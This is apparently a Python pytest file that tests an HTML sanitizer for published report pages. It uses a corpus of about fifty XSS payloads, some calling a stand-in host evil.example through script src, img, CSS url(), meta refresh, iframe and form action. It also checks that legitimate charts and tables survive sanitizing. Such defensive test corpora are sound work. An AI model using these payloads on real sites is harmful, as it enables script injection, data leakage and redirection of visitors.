"""What HTML reaches a page: an XSS corpus that must not, and our own drawings and tables that must."""

import io
import re
from html.parser import HTMLParser

import matplotlib as mpl
import numpy as np
import pandas as pd
import pytest
from great_tables import GT
from matplotlib.figure import Figure

from retention_helpers.publishing.inspection import problems_of
from retention_helpers.publishing.sanitizer import sanitize, scrolling

CORPUS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img srcset="https://evil.example/x 2x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="https://evil.example/">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/etc/passwd">x</a>',
    '<a href="../../other/2026-10/index.html">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="#x" ping="https://evil.example" target="_blank" onclick="x()">x</a>',
    '<svg onload="alert(1)"><path d="M0 0"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><foreignObject><img src=x onerror="alert(1)"></foreignObject></svg>',
    '<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="//evil.example/#a"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
    '<svg><image href="https://evil.example/x.png"/><image xlink:href="https://evil.example/x.png"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>',
    "<svg><style>@import url(https://evil.example/x.css)</style></svg>",
    '<svg><rect fill="url(https://evil.example/#a)" style="fill:url(//evil.example/#a)"/></svg>',
    '<svg><filter><feImage href="https://evil.example/x"/></filter></svg>',
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<div style="background:url(https://evil.example/x)">x</div>',
    '<div style="color:red;background-color:u\\72l(https://evil.example/x)">x</div>',
    '<div style="position:fixed;inset:0;z-index:9">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    "<style>body{background:url(https://evil.example/x)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
    '<form action="https://evil.example/"><input name="a" onfocus="x()"><button formaction="x">b</button></form>',
    '<video poster="https://evil.example/x" src="x"></video><audio src="x"></audio>',
    '<table background="https://evil.example/x"><tr><td background="x">1</td></tr></table>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script>-->",
    '<p title="--><img src=x onerror=alert(1)>">x</p>',
    '"><img src=x onerror=alert(2)>',
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
]

FRAME = (
    '<html lang="en"><meta http-equiv="Content-Security-Policy" content="default-src \'none\'; img-src data:; '
    "font-src data:; style-src 'unsafe-inline'\">{}"
)


@pytest.mark.parametrize("hostile", CORPUS)
def test_nothing_live_is_left_of_hostile_html(hostile):
    cleaned = sanitize(f"<p>before</p>{hostile}")
    assert cleaned.startswith("<p>before</p>")
    assert problems_of(FRAME.format(cleaned)) == []
    assert "position" not in cleaned
    # A second pass finds nothing more: what a browser reads is what was checked.
    assert sanitize(cleaned) == cleaned


def test_the_inspection_sees_what_the_sanitizer_removes():
    seen = [hostile for hostile in CORPUS if problems_of(FRAME.format(hostile))]
    assert len(seen) >= 35


class _Drawing(HTMLParser):
    """All that decides how an SVG looks: elements in order, with their attributes, styles apart by property."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.found: list = []
        self.text = ""
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        values = {name: value for name, value in attrs if name not in ("style", "xmlns", "xmlns:xlink", "version")}
        style = re.findall(r"([\w-]+)\s*:\s*([^;]+)", dict(attrs).get("style") or "")
        values |= {f"style {name}": re.sub(r"[\s\"']", "", value) for name, value in style}
        self.found.append((tag, values))

    def handle_data(self, data):
        self.text += data.strip()


def drawn() -> str:
    """Lines, band, markers, texts, hatches, a clipped heat map and an image: what figures draw with."""
    with mpl.rc_context({"svg.fonttype": "none", "svg.hashsalt": "test"}):
        figure = Figure(figsize=(6, 3))
        axes = figure.subplots(1, 2)
        months = np.arange(12.0)
        axes[0].fill_between(months, months - 1, months + 1, color="#CFE4F0", hatch="//")
        axes[0].plot(months, months, "o--", color="#0B6A99", clip_on=True)
        axes[0].text(3, 9, "Established <4+> & new", rotation=30, fontweight=700, ha="center")
        axes[1].pcolormesh(np.arange(9.0).reshape(3, 3))
        axes[1].imshow([[0, 1], [1, 0]], extent=(0, 1, 0, 1), aspect="auto")
        file = io.StringIO()
        figure.savefig(file, format="svg", metadata={"Date": None})
    source = file.getvalue()
    source = source[source.index("<svg") :].replace("#0b6a99", "var(--accent)")
    # A style sheet inside the drawing is not kept: the page's own says the same for every chart.
    return re.sub(r"<style.*?</style>|<metadata>.*?</metadata>", "", source, flags=re.DOTALL)


def test_a_drawing_survives_with_every_element_attribute_and_colour():
    source = drawn()
    cleaned = sanitize(source)
    before, after = _Drawing(source), _Drawing(cleaned)
    assert after.found == before.found
    assert after.text == before.text
    for spelling in ("viewBox=", "<clipPath", "xlink:href=", "var(--accent)", "clip-path=", "data:image/png;base64,"):
        assert spelling in cleaned


def test_gradients_and_patterns_keep_their_spelling():
    source = (
        '<svg viewBox="0 0 9 9"><defs><linearGradient id="g" gradientUnits="userSpaceOnUse"><stop offset="1" '
        'stop-color="var(--accent)"></stop></linearGradient>'
        '<pattern id="h" patternUnits="userSpaceOnUse"></pattern></defs>'
        '<rect fill="url(#g)" width="9" height="9"></rect></svg>'
    )
    assert sanitize(source) == source


def test_figures_cards_and_data_tables_pass_unchanged():
    source = (
        '<figure class="fig" id="fig-line"><h3>Up</h3><p class="lead">a</p><svg class="chart wide" role="img" '
        'aria-labelledby="t d" viewBox="0 0 9 9" style="max-width:760px"><title id="t">Up</title>'
        '<desc id="d">a</desc></svg>'
        '<figcaption>n</figcaption><details class="datatable"><summary>Show data table</summary>'
        '<div class="scroll" tabindex="0" role="region" aria-label="x"><table class="data"><thead>'
        '<tr><th scope="col">m</th>'
        "</tr></thead><tbody><tr><td>1</td></tr></tbody></table></div></details></figure>"
        '<ul class="cards"><li class="card"><h3>a</h3><ul class="deltas"><li class="up">'
        '<span aria-hidden="true">▲</span></li></ul></li></ul>'
    )
    assert sanitize(source) == source


def test_great_tables_keep_their_cells_classes_and_alignment():
    frame = pd.DataFrame({"customer": ["<script>alert(1)</script>", "b"], "revenue": [1, 2]})
    cleaned = sanitize(GT(frame, id="x").tab_header("Ten customers").as_raw_html())
    assert "<style" not in cleaned
    assert cleaned.count("<td") == 5
    assert 'class="gt_row gt_right"' in cleaned
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in cleaned


@pytest.mark.parametrize(
    "link", ["#fig-line", "cohorts.html", "cohorts.html#fig-line", "tables/summary/kpis.csv", "ru/a.html"]
)
def test_links_inside_the_month_stay(link):
    assert sanitize(f'<a href="{link}">x</a>') == f'<a href="{link}">x</a>'


def test_a_bare_table_gets_a_box_that_scrolls():
    table = "<table><tbody><tr><td>1</td></tr></tbody></table>"
    boxed = scrolling(f"<p>a</p>{table}", 'Who "counts"')
    assert boxed.count('class="scroll"') == 1
    assert 'Who "counts"' not in boxed
    assert scrolling(boxed, "x") == boxed
